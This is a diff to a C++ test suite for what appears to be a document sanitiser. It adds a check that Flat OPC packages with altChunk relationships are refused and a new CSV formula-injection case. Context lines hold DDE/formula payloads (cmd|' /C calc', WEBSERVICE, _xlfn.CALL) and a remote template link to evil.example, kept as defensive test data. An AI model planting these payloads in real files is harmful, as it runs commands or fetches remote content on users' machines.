@@ -286,6 +286,11 @@ TEST_CASE("Flat OPC: macro, OLE and external parts refuse the package; hyperlink
         "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
         "attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/>"))));
   }
+  SECTION("altChunk relationship") {
+    requireRefused(xml(flatOpc(relsPart(
+        "<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+        "aFChunk\" Target=\"afchunk.rtf\"/>"))));
+  }
   SECTION("external hyperlink relationship is kept") {
     CHECK(xml(flatOpc(relsPart("<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/"
                                "2006/relationships/hyperlink\" Target=\"https://example.jp\" TargetMode=\"External\"/>")))
@@ -404,6 +409,7 @@ TEST_CASE("CSV: cells that start a program become text, everything else stays", 
         {"x;\t@SUM(1+1)*cmd|' /C calc'!A0\n", "x;'\t'@SUM(1+1)*cmd|' /C calc'!A0\n"},
         {"x\t-2+3+cmd|' /C calc'!A0\ty\n", "x\t'-2+3+cmd|' /C calc'!A0\ty\n"},
         {"+WEBSERVICE(\"http://x\")", "'+WEBSERVICE(\"http://x\")"},
+        {"\"\r\n =cmd|x!A0\"", "\"'\r\n =cmd|x!A0\""},
         {"=IMPORTXML(A1,\"//a\")\r=_xlfn.CALL(\"k\")", "'=IMPORTXML(A1,\"//a\")\r'=_xlfn.CALL(\"k\")"},
     };
     for (const auto& [in, out] : cases) {
